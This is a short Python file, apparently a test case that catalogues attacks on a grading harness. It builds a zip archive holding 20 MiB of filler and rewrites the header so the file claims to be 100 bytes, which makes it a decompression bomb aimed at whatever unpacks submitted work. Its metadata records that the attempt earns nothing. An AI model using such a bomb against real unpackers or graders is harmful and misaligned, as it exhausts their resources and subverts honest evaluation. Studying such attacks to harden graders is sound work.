"""Hand in a zip bomb that says of itself that it is small.

ends: not_implemented
earns: nothing
problem: cannot be unpacked
works in: itself
"""

import struct
import zipfile
import zlib
from pathlib import Path

SIZE = 20 << 20


def build(folder, right):
    path = Path(folder) / "work.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("power.py", b"#" * SIZE)
    path.write_bytes(path.read_bytes().replace(struct.pack("<I", SIZE), struct.pack("<I", 100)))
    return path


def works(path, folder):
    # A reader that inflates what is there, whatever the header says.
    data = Path(path).read_bytes()
    start = 30 + struct.unpack_from("<H", data, 26)[0] + struct.unpack_from("<H", data, 28)[0]
    return len(zlib.decompressobj(-15).decompress(data[start:])) == SIZE
